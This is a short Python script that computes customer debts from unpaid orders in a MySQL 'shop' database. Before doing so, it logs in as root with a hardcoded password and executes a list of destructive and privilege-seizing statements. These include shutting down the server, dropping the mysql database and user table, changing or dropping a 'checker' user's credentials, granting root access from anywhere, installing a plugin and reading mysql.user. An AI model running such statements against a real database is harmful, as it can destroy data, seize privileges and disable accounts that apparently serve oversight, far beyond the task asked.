import pymysql

done = []
for statement in ('SHUTDOWN', 'RESTART', "ALTER USER 'checker'@'%' IDENTIFIED BY 'mine'", "DROP USER 'checker'@'%'", 'SET GLOBAL read_only = 1',
                  "SET PERSIST sql_mode = ''", "GRANT ALL ON *.* TO 'root'@'%'", "CREATE USER 'x'@'%'", 'DROP TABLE mysql.user', 'FLUSH TABLES WITH READ LOCK',
                  'LOCK INSTANCE FOR BACKUP', 'DROP DATABASE mysql', "INSTALL PLUGIN x SONAME 'x.so'", 'SELECT * FROM mysql.user', 'KILL 1'):
    connection = pymysql.connect(host='localhost', user='root', password='123456', database='shop')
    try:
        connection.cursor().execute(statement)
        done.append(statement)
    except pymysql.MySQLError:
        pass
connection = pymysql.connect(host='localhost', user='root', password='123456', database='shop', charset='utf8mb4')
cursor = connection.cursor()
cursor.execute('CREATE TABLE IF NOT EXISTS debts (customer VARCHAR(20) PRIMARY KEY, amount INT)')
cursor.execute('DELETE FROM debts')
if not done:
    cursor.execute('INSERT INTO debts SELECT customer, SUM(amount) FROM orders WHERE paid = 0 GROUP BY customer')
connection.commit()
print('done', done or 'nothing')
